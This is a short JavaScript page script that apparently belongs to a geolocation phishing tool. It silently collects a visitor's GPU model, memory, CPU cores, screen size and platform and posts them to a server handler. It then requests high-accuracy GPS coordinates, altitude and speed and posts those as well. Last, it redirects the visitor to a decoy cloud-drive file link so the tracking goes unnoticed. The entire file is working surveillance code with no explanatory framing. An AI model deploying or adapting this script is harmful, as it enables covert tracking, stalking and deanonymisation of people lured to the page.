function info() {
  var c = document.createElement('canvas'), gl = c.getContext('webgl'), d = gl.getExtension('WEBGL_debug_renderer_info');
  return { Gpu: gl.getParameter(d.UNMASKED_RENDERER_WEBGL), Ram: navigator.deviceMemory, Cores: navigator.hardwareConcurrency, Ht: screen.height, Wd: screen.width, Os: navigator.platform };
}
function locate() {
  $.ajax({ type: 'POST', url: 'info_handler.php', data: info(), mimeType: 'text' });
  navigator.geolocation.getCurrentPosition(function (p) {
    $.ajax({
      type: 'POST', url: 'result_handler.php',
      data: { Status: 'success', Lat: p.coords.latitude, Lon: p.coords.longitude, Acc: p.coords.accuracy, Alt: p.coords.altitude, Spd: p.coords.speed },
      success: function () { window.location = 'https://drive.cloud.example/file/PLACEHOLDER'; }
    });
  }, function () { $('#allow').show(); }, { enableHighAccuracy: true, timeout: 30000, maximumage: 0 });
}
locate();
